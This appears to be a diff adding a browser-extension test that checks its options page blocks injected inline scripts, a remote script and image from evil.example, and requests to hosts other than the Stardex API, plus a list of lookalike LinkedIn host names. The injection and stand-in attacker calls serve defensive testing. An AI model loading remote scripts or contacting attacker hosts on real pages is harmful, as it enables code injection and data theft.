@@ -326,6 +326,39 @@ test("an answer that leads elsewhere takes the key nowhere", async ({ connectedA
   expect(sandbox.pages.requests.filter((url) => url.includes("evil.example"))).toEqual([]);
 });
 
+test("our own pages run no script but ours and reach nobody but Stardex", async ({
+  connectedApp,
+  sandbox,
+}) => {
+  const options = await connectedApp.openOptions();
+  const outcome = await options.evaluate(async () => {
+    const script = document.createElement("script");
+    script.textContent = "globalThis.owned = 1";
+    const remote = document.createElement("script");
+    remote.src = "https://evil.example/owned.js";
+    const picture = document.createElement("img");
+    picture.src = "https://evil.example/picture.png";
+    const refused = [remote, picture].map(
+      (one) => new Promise((resolve) => one.addEventListener("error", resolve)),
+    );
+    document.body.append(script, remote, picture);
+    await Promise.all(refused);
+    const call = (url: string) =>
+      fetch(url).then(
+        () => "answered",
+        () => "refused",
+      );
+    return {
+      owned: (globalThis as { owned?: unknown }).owned,
+      linkedin: await call("https://www.linkedin.com/in/mara-lindqvist-5b81/"),
+      evil: await call("https://evil.example/"),
+      stardex: await call("https://api.stardex.ai/v1/jobs"),
+    };
+  });
+  expect(outcome).toEqual({ linkedin: "refused", evil: "refused", stardex: "answered" });
+  expect(sandbox.pages.requests).toEqual([]);
+});
+
 for (const host of [
   "www.linkedin.com.evil.example",
   "wwwlinkedin-com.example",
